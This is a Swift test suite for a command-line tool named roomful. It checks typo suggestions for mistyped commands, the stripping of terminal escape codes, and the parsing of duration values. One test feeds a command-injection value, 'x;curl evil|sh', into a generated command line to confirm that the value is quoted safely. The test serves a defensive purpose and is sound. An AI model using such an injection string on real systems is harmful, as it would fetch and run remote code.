import Foundation
import Testing

@testable import RoomRecords
@testable import RoomfulCLI

@Suite("What is typed at a terminal")
struct TypedWordTests {
    @Test(
        "A word that is no command is named, printable, and the one that was probably meant beside it",
        arguments: [
            ("hots", "there is no command \"hots\"; did you mean \"host\"?"), ("peer", "did you mean \"peers\"?"),
            ("--versoin", nil), ("host", nil), ("help", nil), ("responder", nil), ("service", nil),
            ("seat mvoe P1 2", "\"mvoe\"; did you mean \"move\"? All are listed by: roomful seat --help"),
            ("lab bogus", "All are listed by: roomful lab --help"), ("seat move P1 2", nil), ("seat", nil),
            ("config chekc rooms.toml", "did you mean \"check\"?"), ("taught --player P1", nil), ("kick bogus", nil),
            ("help seat", nil), ("a\u{1B}[2Jb", "there is no command \"a"), ("", "there is no command \"\"."),
        ] as [(String, String?)])
    func command(_ word: String, _ said: String?) {
        let problem = RoomfulProgram.unknown(word.components(separatedBy: " "))
        #expect((problem == nil) == (said == nil))
        #expect(problem?.contains("\u{1B}") != true)
        if let said { #expect(problem?.contains(said) == true, "\(problem ?? "")") }
    }

    @Test("What is to be pasted after a host's end names the room, and runs nothing that the host said")
    func goingOn() {
        let place = EventPlace(12, openedAt: "2026-11-21T09:00:00.000Z")
        #expect(Events.line(after: place, of: nil) == "roomful events --after 12@2026-11-21T09:00:00.000Z")
        let hostile = EventPlace(12, openedAt: "x;curl evil|sh")
        let line = Events.line(after: hostile, of: "Blue Hall")
        #expect(line == "roomful events --room 'Blue Hall' --after '12@x;curl evil|sh'")
    }

    @Test("A time is a figure and its unit: hexadecimal digits, exponents and signs are no time")
    func times() {
        for (text, time) in [
            ("90s", Duration.seconds(90)), ("2.5min", .seconds(150)), ("500ms", .milliseconds(500)),
            ("0.5ms", .microseconds(500)), ("7", .seconds(7)),
        ] {
            #expect(Figures.duration(text) == time)
        }
        for text in ["0x10", "0x10s", "1e3", "-5s", "+5", "nan", "infs", "", "s", ".", "1 s", "99999999999999999999h"] {
            #expect(Figures.duration(text) == nil, "\(text)")
        }
        #expect(RecordingPaths.bytes("0x10") == nil && RecordingPaths.bytes("1.5MB") == 1_500_000)
    }
}
